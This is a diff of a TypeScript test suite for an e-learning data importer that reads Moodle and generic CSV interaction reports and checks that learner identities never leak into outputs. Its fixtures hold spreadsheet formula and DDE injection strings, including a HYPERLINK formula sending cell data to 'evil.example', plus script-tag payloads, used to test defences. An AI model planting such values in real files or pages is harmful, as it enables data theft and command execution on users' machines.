@@ -46,8 +46,13 @@ interface Learner {
 const CODES = ['MA-07-SA-2', 'JO-12-LI-0', 'LU-03-BE-1', 'PE-28-OS-3', 'TI-15-RO-0', 'AN-09-KA-4', 'SO-21-MU-1'];
 // Names a spreadsheet would run, markup, quotes, tabs and letters beyond ASCII: none may reach any output.
 const HOSTILE_NAMES: [string, string][] = [
-  ['=HYPERLINK("http://evil.example/?"&A1', 'Doeberg'], ['<script>alert(1)</script>', 'Roestraat'], ['María José', "O'Brien-Łukasz"],
-  ["+cmd|' /C calc'!A0", '@SUM(1+1)'], ['Janestra', 'Tab\tHerewood'], ['Zoëlle', 'Quote "Quimby"'], ['Abernathy', 'Cadwallader'],
+  ['=HYPERLINK("http://evil.example/?"&A1', 'Doeberg'],
+  ['<script>alert(1)</script>', 'Roestraat'],
+  ['María José', "O'Brien-Łukasz"],
+  ["+cmd|' /C calc'!A0", '@SUM(1+1)'],
+  ['Janestra', 'Tab\tHerewood'],
+  ['Zoëlle', 'Quote "Quimby"'],
+  ['Abernathy', 'Cadwallader'],
 ];
 
 /** Every record of an attempt replaced by `f(record)`, re-signed as the pages sign it. */
@@ -57,7 +62,9 @@ function mapRecords(attempt: Attempt, f: (r: ResultRecord) => Omit<ResultRecord,
 }
 
 function learner(n: number, options: { twoAttempts?: boolean; cohort?: string | null } = {}): Learner {
-  const state = options.twoAttempts ? twoAttempts(dict) : moduleState(dict, { skipPre: n % 3 === 0 ? [n % 5] : [] }, testClock(`2026-11-${String(10 + n).padStart(2, '0')}T09:58:13.417Z`));
+  const state = options.twoAttempts
+    ? twoAttempts(dict)
+    : moduleState(dict, { skipPre: n % 3 === 0 ? [n % 5] : [] }, testClock(`2026-11-${String(10 + n).padStart(2, '0')}T09:58:13.417Z`));
   const snapshot = takeSnapshot(state.learner, state.activity, MODULE);
   const vary = (r: ResultRecord): Omit<ResultRecord, 'checksum'> => {
     const { checksum: _, ...rest } = r;
@@ -67,13 +74,18 @@ function learner(n: number, options: { twoAttempts?: boolean; cohort?: string | 
       participant: CODES[n]!,
       cohort: options.cohort === undefined ? (n % 2 ? 'Team A, north {2026} 100%' : null) : options.cohort,
       responses: Object.fromEntries(Object.entries(r.responses).map(([item, v], i) => [item, v === null ? null : ((v + shift + (i % (n + 1))) % 5) + 1])),
-      knowledge: Object.fromEntries(Object.entries(r.knowledge ?? {}).map(([q, v], i) => [q, i === n % 4 && r.timepoint === 'pre' ? null : v === null ? null : (v + n) % 4])),
+      knowledge: Object.fromEntries(
+        Object.entries(r.knowledge ?? {}).map(([q, v], i) => [q, i === n % 4 && r.timepoint === 'pre' ? null : v === null ? null : (v + n) % 4]),
+      ),
       knowledgeHashes: { [MODULE]: bankHash },
       demographics: Object.fromEntries(instrument.demographics.map((d, i) => [d.id, (i + n) % 4 === 0 ? null : d.options[(i + n) % d.options.length]!.value])),
     };
   };
   const progress = snapshot.progress!;
-  const changed: ModuleSnapshot = { ...snapshot, progress: { current: mapRecords(progress.current, vary), archived: progress.archived.map((a) => mapRecords(a, vary)) } };
+  const changed: ModuleSnapshot = {
+    ...snapshot,
+    progress: { current: mapRecords(progress.current, vary), archived: progress.archived.map((a) => mapRecords(a, vary)) },
+  };
   const records = [...changed.progress!.archived, changed.progress!.current].flatMap(attemptRecords);
   const [first, last] = HOSTILE_NAMES[n]!;
   return { first, last, email: `learner.${n}@example.org`, username: `lmsuser${n}x`, records, snapshot: changed };
@@ -92,13 +104,18 @@ async function lmsInteractions(l: Learner, runtime: 'scorm12' | 'scorm2004' = 's
 async function moodleUser(l: Learner, runtime: 'scorm12' | 'scorm2004' = 'scorm12'): Promise<MoodleUser> {
   const times = l.records.map((r) => r.completedAt).sort();
   return {
-    firstname: l.first, lastname: l.last, email: l.email, username: l.username,
+    firstname: l.first,
+    lastname: l.last,
+    email: l.email,
+    username: l.username,
     attempts: [{ attempt: 1, start: new Date(l.records[0]!.startedAt), finish: new Date(times.at(-1)!), interactions: await lmsInteractions(l, runtime) }],
   };
 }
 
-const importAll = (files: readonly ImportFile[], options: ImportOptions = { idSalt: SALT }): ImportResult => importInteractionFiles(files, instrument, hash, options);
-const reportOf = (result: ImportResult): Report => analyzeDataset(buildDataset(result, instrument), { knowledge: banks, generatedAt: '2026-12-01T00:00:00.000Z' });
+const importAll = (files: readonly ImportFile[], options: ImportOptions = { idSalt: SALT }): ImportResult =>
+  importInteractionFiles(files, instrument, hash, options);
+const reportOf = (result: ImportResult): Report =>
+  analyzeDataset(buildDataset(result, instrument), { knowledge: banks, generatedAt: '2026-12-01T00:00:00.000Z' });
 const numbers = analysedNumbers;
 
 const jsonFiles = (learners: readonly Learner[]): ImportFile[] => learners.map((l, i) => ({ name: `result-${i}.json`, text: JSON.stringify(l.records) }));
@@ -108,8 +125,10 @@ const cohort = Array.from({ length: 7 }, (_, n) => learner(n));
 // ---- tests ---------------------------------------------------------------------------------------------
 
 describe('recognising interactions files', () => {
-  it('knows Moodle\'s report, the generic CSV and neither', () => {
-    expect(isInteractionsCsv(['Name', 'Email address', 'Attempt', 'Started on', 'Last accessed on', 'Score', 'SCO', 'Question 0', 'Response 0'])).toBe('moodle');
+  it("knows Moodle's report, the generic CSV and neither", () => {
+    expect(isInteractionsCsv(['Name', 'Email address', 'Attempt', 'Started on', 'Last accessed on', 'Score', 'SCO', 'Question 0', 'Response 0'])).toBe(
+      'moodle',
+    );
     expect(isInteractionsCsv(['Name', 'Attempt', 'Started on', 'Last accessed on', 'Score', 'Response 0'])).toBe('moodle');
     expect(isInteractionsCsv(['Learner', 'Attempt', 'Interaction ID', 'Response', 'Time'])).toBe('generic');
     expect(isInteractionsCsv(['participant', 'timepoint', 'item', 'value'])).toBeNull();
@@ -120,7 +139,7 @@ describe('recognising interactions files', () => {
     expect(interactionsLayout('[{"format":"msg-result-record"}]')).toBeNull();
   });
 
-  it('reads Moodle\'s default date format as a local time', () => {
+  it("reads Moodle's default date format as a local time", () => {
     expect(moodleDate('Thursday, 26 November 2026, 10:08 AM')).toBe('2026-11-26T10:08');
     expect(moodleDate('Friday, 4 December 2026, 12:05 AM')).toBe('2026-12-04T00:05');
     expect(moodleDate('Friday, 4 December 2026, 3:30 PM')).toBe('2026-12-04T15:30');
@@ -129,13 +148,22 @@ describe('recognising interactions files', () => {
 });
 
 describe("Moodle's interactions report", () => {
-  it('gives the same report as the learners\' result files, for a cohort with cohorts, skipped answers and a second attempt', async () => {
+  it("gives the same report as the learners' result files, for a cohort with cohorts, skipped answers and a second attempt", async () => {
     // The last learner has the second learner's code and started the module again ("start again").
-    const learners = [...cohort, { ...learner(1, { twoAttempts: true }), first: 'Secondly', last: 'Againsworth', email: 'second@example.org', username: 'secondx' }];
+    const learners = [
+      ...cohort,
+      { ...learner(1, { twoAttempts: true }), first: 'Secondly', last: 'Againsworth', email: 'second@example.org', username: 'secondx' },
+    ];
     const users = await Promise.all(learners.map((l) => moodleUser(l)));
-    const text = moodleInteractionsReport([...users, { firstname: 'No', lastname: 'Attempt', email: 'none@example.org', attempts: [] }], { qtext: true, resp: true, result: true });
+    const text = moodleInteractionsReport([...users, { firstname: 'No', lastname: 'Attempt', email: 'none@example.org', attempts: [] }], {
+      qtext: true,
+      resp: true,
+      result: true,
+    });
     // PHP's fputcsv encloses every field that holds a space.
-    expect(text.split('\n')[0]).toMatch(/^Name\t"Email address"\tAttempt\t"Started on"\t"Last accessed on"\tScore\t"Mutual support groups: what they are and what the evidence says"\t"Question 0"\t"Response 0"\t"Result 0"\t"Question 1"\t/);
+    expect(text.split('\n')[0]).toMatch(
+      /^Name\t"Email address"\tAttempt\t"Started on"\t"Last accessed on"\tScore\t"Mutual support groups: what they are and what the evidence says"\t"Question 0"\t"Response 0"\t"Result 0"\t"Question 1"\t/,
+    );
     const fromLms = importAll([{ name: 'CS101 Mutual support-20261201_0900-tab_separated.txt', text }]);
     const fromFiles = importFiles(jsonFiles(learners), instrument, hash);
     expect(fromLms.records).toHaveLength(2 * 7 + 4);
@@ -144,8 +172,17 @@ describe("Moodle's interactions report", () => {
     const byKey = (rs: ImportResult['records']) => rs.map((r) => `${r.participant} ${r.timepoint} ${r.attemptId} ${r.completedAt}`).sort();
     expect(byKey(fromLms.records)).toEqual(byKey(fromFiles.records));
     for (const r of fromLms.records) {
-      const original = fromFiles.records.find((o) => o.participant === r.participant && o.attemptId === r.attemptId && o.timepoint === r.timepoint && o.completedAt === r.completedAt)!;
-      expect(r).toMatchObject({ module: original.module, cohort: original.cohort, startedAt: original.startedAt, knowledge: original.knowledge, knowledgeHashes: original.knowledgeHashes, demographics: original.demographics });
+      const original = fromFiles.records.find(
+        (o) => o.participant === r.participant && o.attemptId === r.attemptId && o.timepoint === r.timepoint && o.completedAt === r.completedAt,
+      )!;
+      expect(r).toMatchObject({
+        module: original.module,
+        cohort: original.cohort,
+        startedAt: original.startedAt,
+        knowledge: original.knowledge,
+        knowledgeHashes: original.knowledgeHashes,
+        demographics: original.demographics,
+      });
       expect(r.responses).toEqual(Object.fromEntries(Object.entries(original.responses).filter(([, v]) => v !== null)));
     }
     expect(numbers(reportOf(fromLms))).toEqual(numbers(reportOf(fromFiles)));
@@ -153,7 +190,7 @@ describe("Moodle's interactions report", () => {
     expect(fromLms.problems.map((p) => p.message)).toContainEqual(expect.stringMatching(/^1 row of this report is a learner without an attempt/));
   });
 
-  it('reads a SCORM 2004 runtime\'s interactions listed the same way', async () => {
+  it("reads a SCORM 2004 runtime's interactions listed the same way", async () => {
     const users = await Promise.all(cohort.slice(0, 3).map((l) => moodleUser(l, 'scorm2004')));
     const fromLms = importAll([{ name: 'report.txt', text: moodleInteractionsReport(users, { qtext: true }) }]);
     expect(numbers(reportOf(fromLms))).toEqual(numbers(reportOf(importFiles(jsonFiles(cohort.slice(0, 3)), instrument, hash))));
@@ -162,13 +199,22 @@ describe("Moodle's interactions report", () => {
   it('never copies names, e-mail addresses or user names into records, problems, the report or any export', async () => {
     const users = await Promise.all(cohort.map((l) => moodleUser(l)));
     // Old ids too: their records use the learner id (hashed) as the participant.
-    const legacy = users.map((u, i) => ({ ...u, username: `legacy.${i}`, email: `legacy.${i}@example.org`, attempts: u.attempts.map((a) => ({ ...a, interactions: a.interactions.filter((x) => /^[a-z]/.test(x.id)) })) }));
+    const legacy = users.map((u, i) => ({
+      ...u,
+      username: `legacy.${i}`,
+      email: `legacy.${i}@example.org`,
+      attempts: u.attempts.map((a) => ({ ...a, interactions: a.interactions.filter((x) => /^[a-z]/.test(x.id)) })),
+    }));
     const text = moodleInteractionsReport([...users, ...legacy], { identity: ['email', 'username'], qtext: true });
-    const hostileRow = ["=cmd|' /C calc'!A0", '<script>x</script>', 'evil.user', '1', '-', '-', '0', 'Completed', '<script>alert(2)</script>', '=1+1'].join('\t');
+    const hostileRow = ["=cmd|' /C calc'!A0", '<script>x</script>', 'evil.user', '1', '-', '-', '0', 'Completed', '<script>alert(2)</script>', '=1+1'].join(
+      '\t',
+    );
     const result = importAll([{ name: 'report.txt', text: `${text}${hostileRow}\n` }]);
     const ds = buildDataset(result, instrument);
     const report = analyzeDataset(ds, { knowledge: banks });
-    const everything = [JSON.stringify(result), JSON.stringify(report), ...Object.values(exportAllFiles(ds, report)), renderReportHtml(report, instrument)].join('\n').toLowerCase();
+    const everything = [JSON.stringify(result), JSON.stringify(report), ...Object.values(exportAllFiles(ds, report)), renderReportHtml(report, instrument)]
+      .join('\n')
+      .toLowerCase();
     for (const l of [...cohort, ...legacy.map((u) => ({ first: u.firstname, last: u.lastname, email: u.email!, username: u.username! }))]) {
       for (const secret of [l.first, l.last, l.email, l.username, `${l.first} ${l.last}`]) expect(everything, secret).not.toContain(secret.toLowerCase());
     }
@@ -178,7 +224,9 @@ describe("Moodle's interactions report", () => {
     expect(opaque.length).toBe(cohort.reduce((n, l) => n + l.records.length, 0));
     expect(opaque.every((r) => /^lms-[0-9a-f]{16}$/.test(r.participant) && r.participantRaw === r.participant)).toBe(true);
     // The report says which kind of ids the file gave.
-    expect(result.files).toEqual([{ file: 'report.txt', format: 'moodle-interactions', records: 2 * opaque.length, codes: opaque.length, otherIds: opaque.length }]);
+    expect(result.files).toEqual([
+      { file: 'report.txt', format: 'moodle-interactions', records: 2 * opaque.length, codes: opaque.length, otherIds: opaque.length },
+    ]);
     expect(result.problems.some((p) => p.line === users.length * 2 + 2 && p.severity === 'error')).toBe(true);
   });
 
@@ -192,11 +240,17 @@ describe("Moodle's interactions report", () => {
     expect(all.problems.filter((p) => p.severity === 'error')).toEqual([]);
   });
 
-  it('counts a record the LMS holds twice (two Moodle attempts) once, and keeps another instrument\'s records apart', async () => {
+  it("counts a record the LMS holds twice (two Moodle attempts) once, and keeps another instrument's records apart", async () => {
     const [user] = await Promise.all([moodleUser(cohort[2]!)]);
     const again = { ...user!.attempts[0]!, attempt: 2 };
-    const other = { ...user!.attempts[0]!, attempt: 3, interactions: user!.attempts[0]!.interactions.map((x) => ({ ...x, id: x.id.replace(/_v\d+-\d+-\d+/, '_v9-0-0') })) };
-    const result = importAll([{ name: 'r.txt', text: moodleInteractionsReport([{ ...user!, attempts: [user!.attempts[0]!, again, other] }], { qtext: true }) }]);
+    const other = {
+      ...user!.attempts[0]!,
+      attempt: 3,
+      interactions: user!.attempts[0]!.interactions.map((x) => ({ ...x, id: x.id.replace(/_v\d+-\d+-\d+/, '_v9-0-0') })),
+    };
+    const result = importAll([
+      { name: 'r.txt', text: moodleInteractionsReport([{ ...user!, attempts: [user!.attempts[0]!, again, other] }], { qtext: true }) },
+    ]);
     expect(result.counts).toMatchObject({ recordsRead: 6, imported: 2, identicalCopies: 2, otherInstrument: 2 });
     expect(result.otherInstruments[0]).toMatchObject({ id: 'msg-attitudes', version: '9.0.0', count: 2 });
   });
@@ -211,7 +265,9 @@ describe("Moodle's interactions report", () => {
       .map((x) => (x.id.startsWith('D-discipline') ? { ...x, response: 'astronaut' } : x)) // not an option
       .map((x) => (x.id.startsWith('R_post') ? { ...x, response: x.response.slice(0, 20) } : x)); // cut short
     damaged.push({ id: 'scorm_q1_other_package', response: 'b' }, { id: `${list[firstItem + 1]!.id}`, response: '9' });
-    const result = importAll([{ name: 'r.txt', text: moodleInteractionsReport([{ ...user!, attempts: [{ ...user!.attempts[0]!, interactions: damaged }] }], { qtext: true }) }]);
+    const result = importAll([
+      { name: 'r.txt', text: moodleInteractionsReport([{ ...user!, attempts: [{ ...user!.attempts[0]!, interactions: damaged }] }], { qtext: true }) },
+    ]);
     const pre = result.records.find((r) => r.timepoint === 'pre')!;
     const post = result.records.find((r) => r.timepoint === 'post')!;
     expect(pre.participant).toBe(CODES[3]);
@@ -230,7 +286,13 @@ describe("Moodle's interactions report", () => {
 
   it('SCORM 1.2 limits: ids and responses stay within 255 characters, and an id the LMS cut short is not misread', () => {
     const [pre] = cohort[1]!.records;
-    const long = signRecord({ ...(({ checksum: _, ...x }) => x)(pre!), participant: 'X'.repeat(40), module: 'm'.repeat(100), attemptId: 'a'.repeat(100), cohort: ',{}% '.repeat(12) + 'end' });
+    const long = signRecord({
+      ...(({ checksum: _, ...x }) => x)(pre!),
+      participant: 'X'.repeat(40),
+      module: 'm'.repeat(100),
+      attemptId: 'a'.repeat(100),
+      cohort: ',{}% '.repeat(12) + 'end',
+    });
     const out = scormInteractions([], [long]);
     expect(out.every((i) => i.id.length <= 255 && i.response.length <= 255 && /^[\u0021-\u007e]+$/.test(i.id))).toBe(true);
     expect(out.every((i) => i.type === 'likert' || (!i.response.includes(',') && !i.response.startsWith('{')))).toBe(true);
@@ -239,7 +301,15 @@ describe("Moodle's interactions report", () => {
     expect(fields).toEqual([long.participant, long.module, long.startedAt, long.completedAt, 'a'.repeat(36)]);
     // An LMS that keeps only the first 20 characters of an id: not a record's interaction any more.
     const cut = out.map((i) => ({ id: i.id.slice(0, 20), response: i.response }));
-    const result = importAll([{ name: 'cut.txt', text: moodleInteractionsReport([{ firstname: 'A', lastname: 'B', email: 'a@b.example', attempts: [{ attempt: 1, start: new Date(), finish: new Date(), interactions: cut }] }], { qtext: true }) }]);
+    const result = importAll([
+      {
+        name: 'cut.txt',
+        text: moodleInteractionsReport(
+          [{ firstname: 'A', lastname: 'B', email: 'a@b.example', attempts: [{ attempt: 1, start: new Date(), finish: new Date(), interactions: cut }] }],
+          { qtext: true },
+        ),
+      },
+    ]);
     expect(result.records).toEqual([]);
     expect(result.counts.valuesRejected).toBe(cut.length);
   });
@@ -248,12 +318,14 @@ describe("Moodle's interactions report", () => {
 describe('generic interactions CSV', () => {
   const rows = async (learners: readonly Learner[]) => {
     const out: string[][] = [];
-    for (const [n, l] of learners.entries()) for (const i of await lmsInteractions(l)) out.push([`learner-${n}@example.org`, '1', i.id, i.response, l.records[0]!.completedAt, MODULE]);
+    for (const [n, l] of learners.entries())
+      for (const i of await lmsInteractions(l)) out.push([`learner-${n}@example.org`, '1', i.id, i.response, l.records[0]!.completedAt, MODULE]);
     return out;
   };
-  const csv = (header: string[], data: string[][]) => [header, ...data].map((r) => r.map((v) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n');
+  const csv = (header: string[], data: string[][]) =>
+    [header, ...data].map((r) => r.map((v) => (/[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n');
 
-  it('gives the same report as the result files, in the LMS\'s order or sorted by interaction id', async () => {
+  it("gives the same report as the result files, in the LMS's order or sorted by interaction id", async () => {
     const data = await rows(cohort);
     const expected = numbers(reportOf(importFiles(jsonFiles(cohort), instrument, hash)));
     const header = ['learner', 'attempt', 'interaction_id', 'response', 'time', 'module'];
@@ -264,7 +336,10 @@ describe('generic interactions CSV', () => {
 
   it('reads old ids with the module column; the learner id, hashed with the salt, is the participant', async () => {
     const data = (await rows(cohort.slice(0, 2))).filter((r) => /^[a-z]/.test(r[2]!));
-    const text = csv(['Learner', 'Attempt', 'Interaction ID', 'Response', 'Time', 'Module', 'Email'], data.map((r) => [...r, r[0]!]));
+    const text = csv(
+      ['Learner', 'Attempt', 'Interaction ID', 'Response', 'Time', 'Module', 'Email'],
+      data.map((r) => [...r, r[0]!]),
+    );
     const result = importAll([{ name: 'old.csv', text }]);
     expect(result.records).toHaveLength(4);
     expect(result.records.every((r) => r.participantKind === 'opaque' && r.module === MODULE && r.completedAt !== null)).toBe(true);
@@ -282,7 +357,15 @@ describe('generic interactions CSV', () => {
 
   it('names the line of a row it cannot use, and lists the instruments the ids name', async () => {
     const data = await rows(cohort.slice(0, 1));
-    const text = csv(['learner', 'attempt', 'interaction_id', 'response', 'time'], [...data.map((r) => r.slice(0, 5)), ['', '1', 'x', '1', ''], ['someone@example.org', '1', '', '1', ''], ['someone@example.org', '1', `att-12-helpful_pre_msg-attitudes_v${dict.instrument.version.replace(/\./g, '-')}`, 'five', '']]);
+    const text = csv(
+      ['learner', 'attempt', 'interaction_id', 'response', 'time'],
+      [
+        ...data.map((r) => r.slice(0, 5)),
+        ['', '1', 'x', '1', ''],
+        ['someone@example.org', '1', '', '1', ''],
+        ['someone@example.org', '1', `att-12-helpful_pre_msg-attitudes_v${dict.instrument.version.replace(/\./g, '-')}`, 'five', ''],
+      ],
+    );
     const result = importAll([{ name: 'bad.csv', text }]);
     const lines = data.length + 2;
     expect(result.problems.filter((p) => p.severity === 'error').map((p) => [p.line, p.message])).toEqual([
